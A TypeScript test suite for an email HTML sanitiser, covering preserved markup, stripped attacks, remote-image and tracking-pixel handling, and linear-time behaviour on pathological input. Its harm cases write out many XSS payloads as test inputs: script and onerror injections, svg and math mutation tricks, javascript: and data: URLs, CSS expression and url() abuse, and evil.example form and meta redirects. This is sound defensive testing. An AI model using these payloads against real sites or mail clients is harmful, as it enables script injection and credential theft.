// What strangers put into mails comes out harmless, complete in its words, and in linear time.
import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import * as fc from 'fast-check'
import { cpuTime } from '../../../../../test/cpu-time.ts'
import { htmlOf } from './html-of.ts'
import { type Pictures, sanitise } from './sanitise.ts'

const off: Pictures = { remote: false, enclosed: () => null }
const clean = (html: string, pictures: Partial<Pictures> = {}) => sanitise(html, { ...off, ...pictures }).html

const link = (href: string, words: string) =>
  `<a href="${href}" target="_blank" rel="noopener noreferrer nofollow" title="${href}">${words}</a>`

suite('what may be shown is kept', () => {
  const cases: [given: string, shown: string][] = [
    ['<p dir=rtl>one<p>two', '<p dir="rtl">one</p><p>two</p>'],
    [
      '<table width="100%"><tr><td bgcolor=#fff>a<td>b<tr><td>c</table>',
      '<table width="100%"><tr><td bgcolor="#fff">a</td><td>b</td></tr><tr><td>c</td></tr></table>',
    ],
    [
      '<body style="color: #111; font-family: Arial, \'微软雅黑\'"><b>a</b></body>',
      '<div style="color: #111; font-family: Arial, \'微软雅黑\'"><b>a</b></div>',
    ],
    [
      '<span style="background-color:rgba(0, 10,20,.5);x:y">a',
      '<span style="background-color: rgba(0, 10,20,.5)">a</span>',
    ],
    ['1 &lt; 2 &amp;&nbsp;&#x1F600;', '1 &lt; 2 &amp;\u00a0😀'],
    ['<b><i>a</b>c</i>', '<b><i>a</i></b>c'],
    ['</div>a<br/>b<hr>', 'a<br>b<hr>'],
    ['<a href="https://x.example/?a=1&amp;b=2">x</a>', link('https://x.example/?a=1&amp;b=2', 'x')],
    ['<a href="mailto:a@b.example">x</a>', link('mailto:a@b.example', 'x')],
    ['<!--[if mso]><b>a</b><![endif]-->b', 'b'],
  ]
  for (const [given, shown] of cases) test(given, () => assert.equal(clean(given), shown))
})

suite('what could do harm is not', () => {
  const cases: [given: string, shown: string][] = [
    ['<script>alert(1)</script>a', 'a'],
    ['<scr<script>ipt>alert(1)</scr</script>ipt>', 'ipt&gt;alert(1)ipt&gt;'],
    ['<img src=x onerror=alert(1)>', ''],
    ['<b onclick="alert(1)" id=x class=y name=z>a</b>', '<b>a</b>'],
    ['<svg><style><img src=x onerror=alert(1)></style></svg>a', 'a'],
    ['<svg onload=alert(1)>', ''],
    [
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
      '',
    ],
    ['<math></math><p>a', '<p>a</p>'],
    ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', ''],
    ['<title><a title="</title><b>x</b>">', '<b>x</b>&quot;&gt;'],
    ['<style>@import url(https://evil.example/x.css)</style>a', 'a'],
    [
      '<link rel=stylesheet href=https://evil.example><base href=https://evil.example><meta http-equiv=refresh content="0;url=https://evil.example">a',
      'a',
    ],
    ['<form action=https://evil.example><input name=p type=password><button>Go</button></form>', 'Go'],
    ['<iframe src=https://evil.example>in</iframe><object data=x>in</object><embed src=x>', ''],
    ['<a href="javascript:alert(1)">a</a>', '<a>a</a>'],
    ['<a href="java\tscript:alert(1)">a</a>', '<a>a</a>'],
    ['<a href="&#106;avascript&colon;alert(1)">a</a>', '<a>a</a>'],
    ['<a href="data:text/html,<script>alert(1)</script>">a</a>', '<a>a</a>'],
    [
      '<a href="vbscript:x">a</a><a href="/api/session">b</a><a href="file:///etc/passwd">c</a>',
      '<a>a</a><a>b</a><a>c</a>',
    ],
    ['<b style="position:fixed;top:0;z-index:9">a</b>', '<b>a</b>'],
    ['<b style="background:url(https://evil.example/p.png)">a</b>', '<b>a</b>'],
    ['<b style="background:u\\72l(https://evil.example)">a</b>', '<b>a</b>'],
    ['<b style="width:expression(alert(1));color:red">a</b>', '<b style="color: red">a</b>'],
    [
      '<b style="color:red}/*">a</b><b style="font-family:\'a;color:red">b</b>',
      '<b>a</b><b style="color: red">b</b>',
    ],
    ['<table background="https://evil.example/p.png"><td>a</table>', '<table><td>a</td></table>'],
    ['<img src="data:image/svg+xml;base64,PHN2Zz4=">', ''],
    ['<img src="data:image/png;base64,AAAA,<script>">', ''],
    ['<b lang="x&quot; onclick=&quot;y">a</b>', '<b>a</b>'],
    ['<p constructor=x __proto__=y>a', '<p>a</p>'],
    ['a\0<b\0>c', 'ac'],
    ['<b <script>alert(1)//', '<b>alert(1)//</b>'],
  ]
  for (const [given, shown] of cases) test(given, () => assert.equal(clean(given), shown))

  test('nothing but allowed elements without handlers, whatever comes', () => {
    const piece = fc.constantFrom(
      ...'<b>|</b>|<svg>|</svg>|<style>|</style>|<math>|<a href="|">|<!--|-->|<![CDATA[|]]>|<img src=x onerror=y |&lt;|&#60;script|<p title=\'|\'>|<textarea>|</textarea>|"|`|=|/|<|>|\0|onclick=x'.split(
        '|',
      ),
    )
    const allowed = /^(?:[^<>]|<\/?[a-z0-9]+(?: [a-z]+="[^"<>`]*")*>)*$/
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), pieces => {
        const shown = clean(pieces.join(''))
        assert.match(shown, allowed)
        assert.doesNotMatch(shown, /<[^>]* on[a-z]+=|<(?:script|svg|math|style|textarea)/i)
        assert.equal(clean(shown), shown, 'the same again')
      }),
      { numRuns: 500 },
    )
  })
})

suite('pictures', () => {
  const remote = '<img src="https://x.example/a.png" alt="A" width=20>'

  test('of other people’s servers are told, and in it only when asked for', () => {
    assert.deepEqual(sanitise(remote, off), { html: '<img alt="A" width="20">', wantsRemote: true })
    const { html } = sanitise(remote, { ...off, remote: true })
    assert.equal(html, '<img src="https://x.example/a.png" alt="A" width="20">')
    assert.equal(sanitise('<img src="//x.example/a.png">', off).wantsRemote, true)
  })

  test('that only count readers never are', () => {
    const speck = '<img src="https://x.example/a.gif" width="1" height="1">'
    assert.deepEqual(sanitise(speck, { ...off, remote: true }), { html: '', wantsRemote: false })
  })

  test('of the mail itself are found by their id', () => {
    const enclosed = (id: string) => (id === 'a@x' ? 'data:image/png;base64,AA==' : null)
    const html = clean('<img src="cid:a%40x" alt=A><img src="CID:b@x">', { enclosed })
    assert.equal(html, '<img src="data:image/png;base64,AA==" alt="A">')
  })
})

suite('bombs take less than a second', () => {
  const many = (piece: string) => piece.repeat(Math.floor(1_000_000 / piece.length))
  const bombs: Record<string, string> = {
    'nested 100,000 deep': '<div>'.repeat(100_000) + 'a' + '</div>'.repeat(100_000),
    'never closed': many('<b>'),
    'closed only': many('</b>'),
    misnested: '<b>'.repeat(100_000) + '<i></b>'.repeat(100_000),
    'table in table': many('<table><tr><td>'),
    attributes: `<p ${many('a=b ')}>`,
    'one attribute': `<p style="${many('color:red;')}">`,
    'half a colour': `<p style="color:${'rgb('.repeat(900)}">`,
    quotes: many('"\'<a href="'),
    comments: many('<!--'),
    entities: many('&lt;'),
    brackets: many('<'),
    svg: many('<svg>'),
    links: many('<a href="https://x.example/">'),
  }
  for (const [name, bomb] of Object.entries(bombs)) {
    test(name, () => {
      const begun = cpuTime()
      clean(bomb, { remote: true })
      const took = cpuTime() - begun
      assert.ok(took < 1_000, `${took} ms`)
    })
  }

  test('depth is bounded, and the words are kept', () => {
    const html = clean(`${'<div>'.repeat(100_000)}a`)
    assert.equal(html, `${'<div>'.repeat(200)}a${'</div>'.repeat(200)}`)
  })
})

test('a mail from which a seed phrase was taken is not shown as HTML', () => {
  const words = 'legal winner thank year wave sausage worth useful legal winner thank yellow'
  assert.equal(htmlOf(null, `<p>${words.replaceAll(' ', '</p><p>')}</p>`), 'none')
  assert.equal(htmlOf(words, '<p>See the text.</p>'), 'none')
  assert.equal(htmlOf('a', '<p>a</p>'), 'whole')
  assert.equal(htmlOf(null, '<img src=https://x.example/a.png>'), 'remote')
})
